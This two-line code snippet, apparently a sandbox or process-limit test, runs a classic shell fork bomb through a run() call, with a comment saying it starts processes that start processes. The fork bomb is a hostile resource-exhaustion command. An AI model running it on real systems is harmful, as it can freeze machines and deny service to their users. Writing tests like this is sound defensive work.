// Starts processes that start processes.
attempt(() => run("bomb() { bomb | bomb & }; bomb; sleep 3"));
